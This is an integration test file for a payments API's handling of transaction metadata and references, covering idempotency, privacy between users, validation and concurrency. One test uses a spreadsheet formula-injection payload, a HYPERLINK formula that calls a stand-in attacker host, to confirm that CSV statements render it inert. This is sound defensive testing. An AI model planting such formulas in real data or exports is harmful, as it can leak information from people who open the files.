import { randomUUID } from 'node:crypto';
import { expect } from 'chai';
import type { ProcessSystem } from '@payments/infra';
import { eventually, useSystem } from '@payments/testkit';
import { rawApi, signUp, type ApiResponse, type TestUser } from '@payments/test-support';
import { startCopy } from './support/system-copies.js';

interface Owner extends TestUser {
  accountId: string;
}

describe('metadata and references on money requests, through the gateway', function () {
  this.timeout(90_000);

  const system = useSystem({}, { booksBalance: true, admin: true });
  const api = rawApi(system);

  /** A user with a USD account and a payout account linked, so that they may withdraw too. */
  const newOwner = async (): Promise<Owner> => {
    const user = await signUp(system.gatewayUrl);
    await user.client.payoutAccount.link();
    const { id } = await user.client.accounts.open({ currency: 'USD' });
    return { ...user, accountId: id };
  };

  const settled = (owner: Owner, transactionId: string) =>
    eventually(
      () => owner.client.transactions.get(transactionId),
      (transaction) => transaction.status !== 'pending',
      { timeoutMs: 20_000 },
    );

  const fund = async (owner: Owner, amount: number) => {
    const accepted = await owner.client.money.deposit(owner.accountId, { amount, currency: 'USD' });
    expect((await settled(owner, accepted.id)).status).to.equal('completed');
  };

  const money = (owner: Owner, operation: string, body: object, headers?: Record<string, string>) =>
    api.post(`/account/${owner.accountId}/${operation}`, body, owner.token, headers);

  const expectProblem = (response: ApiResponse, status: number, code: string, field?: string) => {
    expect(response.status, response.text).to.equal(status);
    expect(response.headers.get('content-type')).to.match(/^application\/problem\+json/);
    expect(response.body.code, response.text).to.equal(code);
    if (field) {
      expect(
        (response.body.errors as { field: string }[]).map((e) => e.field),
        response.text,
      ).to.include(field);
    }
    expect(response.text).not.to.match(/SELECT|INSERT|constraint|at .*\.ts:/);
  };

  const listed = async (owner: Pick<Owner, 'token'>, query: string) => {
    const response = await api.get(`/transactions?${query}`, owner.token);
    expect(response.status, response.text).to.equal(200);
    return response.body as { data: Record<string, unknown>[]; pagination: { total: number } };
  };

  let alice: Owner;
  let bob: Owner;

  before(async () => {
    alice = await newOwner();
    bob = await newOwner();
    await fund(alice, 100);
  });

  it('keeps metadata and reference on the 202, the transaction, both lists and their filters', async () => {
    const reference = `order-${randomUUID()}`;
    const metadata = { order: '8812', note: 'first payment' };
    const accepted = await money(alice, 'deposit', { amount: 5, currency: 'USD', metadata, reference });
    expect(accepted.status, accepted.text).to.equal(202);
    expect(accepted.body).to.include({ reference });
    expect(accepted.body.metadata).to.deep.equal(metadata);

    const shown = await api.get(`/transaction/${accepted.body.id}`, alice.token);
    expect(shown.body).to.include({ reference });
    expect(shown.body.metadata).to.deep.equal(metadata);

    const byReference = await listed(alice, `reference=${encodeURIComponent(reference)}`);
    expect(byReference.data.map((t) => t.id)).to.deep.equal([accepted.body.id]);
    expect(byReference.pagination.total).to.equal(1);
    expect(byReference.data[0]?.metadata).to.deep.equal(metadata);

    const byMetadata = await listed(alice, 'metadata%5Border%5D=8812&metadata[note]=first%20payment');
    expect(byMetadata.data.map((t) => t.id)).to.deep.equal([accepted.body.id]);
    expect((await listed(alice, 'metadata[order]=8813')).data).to.deep.equal([]);
    // The client sends the same filter from an object.
    const viaClient = await alice.client.transactions.listPage({ metadata: { order: '8812' }, reference });
    expect(viaClient.data.map((t) => t.id)).to.deep.equal([accepted.body.id]);
    expect(viaClient.data[0]?.metadata).to.deep.equal(metadata);

    const ofAccount = await api.get(
      `/account/${alice.accountId}/transactions?reference=${encodeURIComponent(reference)}`,
      alice.token,
    );
    expect(ofAccount.body.data.map((t: { id: string }) => t.id)).to.deep.equal([accepted.body.id]);
    expect(ofAccount.body.data[0].metadata).to.deep.equal(metadata);

    // A request without either still answers both: no metadata, no reference.
    const plain = await money(alice, 'deposit', { amount: 1, currency: 'USD' });
    expect(plain.body).to.include({ reference: null });
    expect(plain.body.metadata).to.deep.equal({});
    // Settled here, so that the sandbox paying them later moves no balance the next tests compare.
    for (const id of [accepted.body.id, plain.body.id] as string[])
      expect((await settled(alice, id)).status).to.equal('completed');
  });

  it('replays the same request under a reference and refuses another body with 409 DUPLICATE_ENTRY', async () => {
    const reference = `invoice-${randomUUID()}`;
    const body = { amount: 3, currency: 'USD', reference, metadata: { invoice: 'A-1' } };
    const first = await money(alice, 'withdraw', body);
    expect(first.status, first.text).to.equal(202);
    const { available_balance: afterFirst } = await alice.client.balances.get(alice.accountId);

    // Key order aside, the same body is the same request, under a new Idempotency-Key too.
    const again = await money(
      alice,
      'withdraw',
      { metadata: { invoice: 'A-1' }, reference, currency: 'USD', amount: 3 },
      { 'idempotency-key': randomUUID() },
    );
    expect(again.status, again.text).to.equal(202);
    expect(again.headers.get('idempotent-replayed')).to.equal('true');
    expect(again.body).to.deep.equal(first.body);

    expectProblem(
      await money(alice, 'withdraw', { ...body, amount: 4 }),
      409,
      'DUPLICATE_ENTRY',
      'reference',
    );
    expectProblem(
      await money(alice, 'withdraw', { ...body, metadata: { invoice: 'A-2' } }),
      409,
      'DUPLICATE_ENTRY',
    );
    expectProblem(await money(alice, 'deposit', body), 409, 'DUPLICATE_ENTRY');
    // Nothing more was held, and there is still one transaction under the reference.
    expect((await alice.client.balances.get(alice.accountId)).available_balance).to.equal(afterFirst);
    expect((await listed(alice, `reference=${reference}`)).pagination.total).to.equal(1);
  });

  it('gives a refused request’s reference back: the same reference is accepted once the funds are there', async () => {
    const carol = await newOwner();
    const reference = `refused-${randomUUID()}`;
    const body = { amount: 2, currency: 'USD', reference };
    expectProblem(await money(carol, 'withdraw', body), 422, 'INSUFFICIENT_FUNDS');
    await fund(carol, 5);
    const accepted = await money(carol, 'withdraw', body);
    expect(accepted.status, accepted.text).to.equal(202);
    expect(accepted.headers.get('idempotent-replayed')).to.equal(null);
  });

  it('lets another user use the same reference: it is unique per user', async () => {
    const reference = `shared-${randomUUID()}`;
    const mine = await money(alice, 'deposit', { amount: 1, currency: 'USD', reference });
    const theirs = await money(bob, 'deposit', { amount: 2, currency: 'USD', reference });
    expect(mine.status, mine.text).to.equal(202);
    expect(theirs.status, theirs.text).to.equal(202);
    expect(theirs.headers.get('idempotent-replayed')).to.equal(null);
    expect(theirs.body.id).not.to.equal(mine.body.id);
    expect((await listed(bob, `reference=${reference}`)).data.map((t) => t.id)).to.deep.equal([
      theirs.body.id,
    ]);
  });

  it('never shows another user a transfer’s metadata or reference, in lists or statements, nor filters by it', async () => {
    const reference = `payout-${randomUUID()}`;
    const metadata = { secret: 'alice-only' };
    const sent = await api.post(
      `/account/${alice.accountId}/transfer`,
      { amount: 1, currency: 'USD', to_account_id: bob.accountId, reference, metadata },
      alice.token,
    );
    expect(sent.status, sent.text).to.equal(202);
    expect((await settled(alice, sent.body.id)).status).to.equal('completed');

    const seenByBob = await api.get(`/transaction/${sent.body.id}`, bob.token);
    expect(seenByBob.status, seenByBob.text).to.equal(200);
    expect(seenByBob.body).not.to.have.any.keys('metadata', 'reference');
    const bobsHistory = await listed(bob, 'limit=100');
    const received = bobsHistory.data.find((t) => t.id === sent.body.id);
    expect(received, 'the received transfer is in the history').to.not.equal(undefined);
    expect(received).not.to.have.any.keys('metadata', 'reference');
    expect(JSON.stringify(bobsHistory)).not.to.include('alice-only');

    expect((await listed(bob, `reference=${reference}`)).data).to.deep.equal([]);
    expect((await listed(bob, 'metadata[secret]=alice-only')).data).to.deep.equal([]);
    const ofBobsAccount = await api.get(
      `/account/${bob.accountId}/transactions?metadata[secret]=alice-only`,
      bob.token,
    );
    expect(ofBobsAccount.body.data).to.deep.equal([]);
    // Alice, the owner, still finds and sees it.
    const alicesOwn = await listed(alice, 'metadata[secret]=alice-only');
    expect(alicesOwn.data.map((t) => t.id)).to.deep.equal([sent.body.id]);
    expect(alicesOwn.data[0]).to.include({ reference });

    // Statements, JSON and CSV: Alice's entry carries them, Bob's entry of the same transfer does not.
    const statementOf = (owner: Owner, format: 'json' | 'csv') =>
      api.get(`/account/${owner.accountId}/statement?format=${format}&limit=1000`, owner.token);
    const alicesStatement = await statementOf(alice, 'json');
    const alicesEntry = (alicesStatement.body.entries as Record<string, unknown>[]).find(
      (entry) => entry.transaction_id === sent.body.id,
    );
    expect(alicesEntry).to.deep.include({ reference, metadata });
    const alicesCsv = (await statementOf(alice, 'csv')).text;
    expect(alicesCsv.split('\r\n')[0]).to.match(/,reference,metadata$/);
    expect(alicesCsv).to.include(`,${reference},"{""secret"":""alice-only""}"`);
    const bobsStatement = await statementOf(bob, 'json');
    const bobsEntry = (bobsStatement.body.entries as Record<string, unknown>[]).find(
      (entry) => entry.transaction_id === sent.body.id,
    );
    expect(bobsEntry, 'the received transfer is on the statement').to.not.equal(undefined);
    expect(bobsEntry).not.to.have.any.keys('metadata', 'reference');
    const bobsCsv = (await statementOf(bob, 'csv')).text;
    expect(bobsCsv).to.include(sent.body.id);
    expect(`${bobsStatement.text}${bobsCsv}`).not.to.include('alice-only');
    expect(`${bobsStatement.text}${bobsCsv}`).not.to.include(reference);
  });

  it('writes a reference a spreadsheet would run as a formula into the CSV statement as text', async () => {
    const formula = `=HYPERLINK("https://attacker.example/?${randomUUID()}","refund")`;
    const accepted = await money(alice, 'deposit', { amount: 1, currency: 'USD', reference: formula });
    expect(accepted.status, accepted.text).to.equal(202);
    // The API gives it back as it was sent; only the CSV cell is made inert.
    expect(accepted.body).to.include({ reference: formula });
    await settled(alice, accepted.body.id as string);
    const csv = (await api.get(`/account/${alice.accountId}/statement?format=csv&limit=1000`, alice.token))
      .text;
    const row = csv.split('\r\n').find((line) => line.includes(accepted.body.id as string));
    expect(row, csv).to.include(`"'${formula.replaceAll('"', '""')}"`);
    expect(row).not.to.match(/,"?=HYPERLINK/);
  });

  it('lets an admin see them, and forgets a removed user’s on the transfers that live on with the receiver', async () => {
    const leaver = await newOwner();
    await fund(leaver, 5);
    const reference = `leaving-${randomUUID()}`;
    const sent = await api.post(
      `/account/${leaver.accountId}/transfer`,
      { amount: 5, currency: 'USD', to_account_id: bob.accountId, reference, metadata: { why: 'leaving' } },
      leaver.token,
    );
    expect(sent.status, sent.text).to.equal(202);
    expect((await settled(leaver, sent.body.id)).status).to.equal('completed');
    const admin = system.admin.token;
    expect((await api.get(`/transaction/${sent.body.id}`, admin)).body).to.deep.include({
      reference,
      metadata: { why: 'leaving' },
    });

    const removed = await api.delete(`/user/${leaver.userId}?confirm=true`, leaver.token);
    expect(removed.status, removed.text).to.equal(204);
    const kept = await api.get(`/transaction/${sent.body.id}`, admin);
    expect(kept.status, kept.text).to.equal(200);
    expect(kept.body).to.deep.include({ reference: null, metadata: {} });
    expect((await api.get(`/transaction/${sent.body.id}`, bob.token)).text).not.to.include('leaving');
  });

  it('answers metadata and references beyond their limits 400 VALIDATION_ERROR, naming what is wrong', async () => {
    const deposit = (extra: object) => money(alice, 'deposit', { amount: 1, currency: 'USD', ...extra });
    const tooMany = Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`k${i}`, 'v']));
    const cases: [object, string, RegExp][] = [
      [{ metadata: tooMany }, 'metadata', /at most 50 keys/],
      [{ metadata: { ['k'.repeat(41)]: 'v' } }, 'metadata', /key "k+…" must NOT have more than 40/],
      [{ metadata: { '': 'v' } }, 'metadata', /key "" must NOT have fewer than 1/],
      [{ metadata: { 'a[b]': 'v' } }, 'metadata', /key "a\[b\]" must match/],
      [{ metadata: { n: 5 } }, 'metadata.n', /must be string/],
      [{ metadata: { long: 'v'.repeat(501) } }, 'metadata.long', /more than 500/],
      [{ metadata: 'order=8812' }, 'metadata', /must be object/],
      [{ reference: '' }, 'reference', /fewer than 1/],
      [{ reference: 'r'.repeat(256) }, 'reference', /more than 255/],
      [{ reference: 42 }, 'reference', /must be string/],
    ];
    for (const [extra, field, message] of cases) {
      const response = await deposit(extra);
      expectProblem(response, 400, 'VALIDATION_ERROR', field);
      const errors = response.body.errors as { field: string; message: string }[];
      expect(
        errors.some((e) => e.field === field && message.test(e.message)),
        response.text,
      ).to.equal(true);
    }
    // Exactly at the limits is fine.
    const atLimits = Object.fromEntries(
      Array.from({ length: 50 }, (_, i) => [`${i}`.padStart(40, 'k'), 'v'.repeat(500)]),
    );
    const accepted = await deposit({ metadata: atLimits, reference: 'r'.repeat(255) });
    expect(accepted.status, accepted.text).to.equal(202);

    expectProblem(
      await api.get('/transactions?reference=', alice.token),
      400,
      'VALIDATION_ERROR',
      'reference',
    );
    expectProblem(
      await api.get(`/transactions?metadata[order]=${'v'.repeat(501)}`, alice.token),
      400,
      'VALIDATION_ERROR',
    );
  });

  describe('the same reference at once, on two ledger processes', () => {
    let secondLedger: ProcessSystem;

    before(async () => {
      secondLedger = await startCopy(system, 'ledger');
    });

    after(async () => {
      if (system.failures > 0 && secondLedger) console.error(secondLedger.logs());
      await secondLedger?.stop();
    });

    it('makes exactly one transaction and holds once; the same body replays, another is a 409', async () => {
      const dave = await newOwner();
      await fund(dave, 50);
      const reference = `race-${randomUUID()}`;
      const ledgers = [rawApi(system.urls.ledger), rawApi(secondLedger.urls.ledger)];
      const withdraw = (i: number, amount: number) =>
        ledgers[i % 2]!.post(
          `/account/${dave.accountId}/withdraw`,
          { amount, currency: 'USD', reference },
          dave.token,
        );
      // Twenty at once, half through each process, half with another amount.
      const answers = await Promise.all(Array.from({ length: 20 }, (_, i) => withdraw(i, i < 10 ? 10 : 20)));
      const accepted = answers.filter((a) => a.status === 202);
      const ids = new Set(accepted.map((a) => a.body.id as string));
      expect(ids.size, answers.map((a) => a.text).join('\n')).to.equal(1);
      expect(accepted.filter((a) => a.headers.get('idempotent-replayed') === null)).to.have.length(1);
      const [winner] = accepted;
      const amount = winner!.body.amount as number;
      // Every answer is the winner's replay, or a 409 for a request with the other amount.
      for (const answer of answers) {
        if (answer.status === 202) continue;
        expectProblem(answer, 409, 'DUPLICATE_ENTRY');
      }
      expect(accepted).to.have.length(10);
      expect(accepted.every((a) => a.body.amount === amount)).to.equal(true);
      const listedOnce = await listed(dave, `reference=${reference}`);
      expect(listedOnce.pagination.total).to.equal(1);
      const balance = await dave.client.balances.get(dave.accountId);
      expect(balance.available_balance).to.equal(50 - amount);
    });
  });
});
